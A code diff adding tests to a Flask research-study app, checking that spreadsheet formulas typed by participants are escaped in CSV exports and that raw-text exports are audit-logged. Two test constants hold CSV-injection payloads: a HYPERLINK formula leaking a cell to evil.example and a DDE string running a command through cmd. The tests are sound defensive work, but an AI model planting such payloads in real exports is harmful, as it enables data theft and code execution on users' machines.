@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import zipfile
+from datetime import timedelta
 from pathlib import Path
 
 import pandas as pd
@@ -15,11 +17,13 @@ from flask.testing import FlaskClient
 from sqlmodel import Session, select
 
 from studyapp.core.models import AuditEvent
+from studyapp.core.types import utcnow
 from tests.factories import (
     enrol,
     invite_with_token,
     login,
     make_cohort,
+    make_flow_instrument,
     make_instrument,
     make_study,
     make_user,
@@ -173,3 +177,85 @@ def test_no_identity_in_any_export_or_the_audit_log(client: FlaskClient, session
         for needle in needles:
             assert needle.lower() not in text, f"{needle!r} found in {name}"
     assert session.exec(select(AuditEvent).where(AuditEvent.action == "identity.viewed")).all()
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
+DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def typed_formulas(session: Session) -> dict:
+    """A participant who typed spreadsheet formulas as their own title and remarks, through their link."""
+    study = make_study(session)
+    cohort = make_cohort(session, study)
+    wave = make_wave(session, cohort, make_flow_instrument(session))
+    participant = enrol(session, cohort, "ada@example.org")
+    invitation, token = invite_with_token(session, participant, wave)
+    invitation.closes_at = utcnow() + timedelta(days=30)
+    session.add(invitation)
+    session.commit()
+    return {"study": study, "token": token, "participant": participant}
+
+
+def _csv(files: dict[str, bytes], suffix: str) -> list[dict[str, str]]:
+    """The cells of one CSV in the zip exactly as written (as Excel's import sees them)."""
+    text = next(v for k, v in files.items() if k.endswith(suffix)).decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def _type_formulas(client: FlaskClient, token: str) -> None:
+    participant = client.application.test_client()
+    page = participant.post(
+        f"/p/{token}/s/profession", data={"prof_title": "4", "prof_title_other": FORMULA, "action": "next"}
+    )
+    assert page.status_code == 302
+    assert participant.post(f"/p/{token}/s/background/autosave", data={"bg_remarks": DDE}).status_code == 200
+
+
+def test_formulas_typed_by_a_participant_are_text_in_the_csv_exports(
+    client: FlaskClient, session: Session, typed_formulas: dict
+) -> None:
+    _type_formulas(client, typed_formulas["token"])
+    make_user(session)
+    login(client)
+    study = typed_formulas["study"]
+    page = client.get(f"/studies/{study.id}/export").get_data(as_text=True)
+    assert 'name="raw_text"' in page and "apostrophe" in page
+    files = _download(client, study.id, formats=["long_csv", "wide_csv", "sav", "codebook_json"])
+    wide = _csv(files, "_wide.csv")[0]
+    assert wide["prof_title_other"] == "'" + FORMULA and wide["bg_remarks"] == "'" + DDE
+    assert wide["prof_title"] == "4"  # numbers stay numbers
+    long = {row["item"]: row["value"] for row in _csv(files, "_long.csv")}
+    assert long["prof_title_other"] == "'" + FORMULA and long["bg_remarks"] == "'" + DDE
+    frame, _ = pyreadstat.read_sav(io.BytesIO(files["bridge-the-gap.sav"]))  # not a spreadsheet: as typed
+    assert frame["prof_title_other"].tolist() == [FORMULA]
+    assert json.loads(files["bridge-the-gap_codebook.json"])["csv_text"]["formulas_neutralised"] is True
+    event = session.exec(select(AuditEvent).where(AuditEvent.action == "data.exported")).one()
+    assert event.detail["raw_text"] is False
+
+
+def test_raw_text_export_for_r_and_python_is_audit_logged(
+    client: FlaskClient, session: Session, typed_formulas: dict
+) -> None:
+    _type_formulas(client, typed_formulas["token"])
+    make_user(session)
+    login(client)
+    files = _download(client, typed_formulas["study"].id, formats=["wide_csv", "codebook_json"], raw_text="y")
+    assert _csv(files, "_wide.csv")[0]["prof_title_other"] == FORMULA
+    assert json.loads(files["bridge-the-gap_codebook.json"])["csv_text"]["formulas_neutralised"] is False
+    event = session.exec(select(AuditEvent).where(AuditEvent.action == "data.exported")).one()
+    assert event.detail["raw_text"] is True
+
+
+def test_cli_export_neutralises_formulas_unless_raw_text(
+    client: FlaskClient, runner, session: Session, typed_formulas: dict, tmp_path: Path
+) -> None:
+    _type_formulas(client, typed_formulas["token"])
+    args = ["export", "--study", "bridge-the-gap", "--format", "wide_csv"]
+    assert runner.invoke(args=[*args, "--out", str(tmp_path / "safe")]).exit_code == 0
+    assert runner.invoke(args=[*args, "--raw-text", "--out", str(tmp_path / "raw")]).exit_code == 0
+    safe = pd.read_csv(tmp_path / "safe" / "bridge-the-gap_wide.csv", encoding="utf-8-sig")
+    raw = pd.read_csv(tmp_path / "raw" / "bridge-the-gap_wide.csv", encoding="utf-8-sig")
+    assert safe["prof_title_other"].tolist() == ["'" + FORMULA] and raw["prof_title_other"].tolist() == [FORMULA]
+    events = session.exec(select(AuditEvent).where(AuditEvent.action == "data.exported").order_by(AuditEvent.id))
+    assert [e.detail["raw_text"] for e in events] == [False, True]
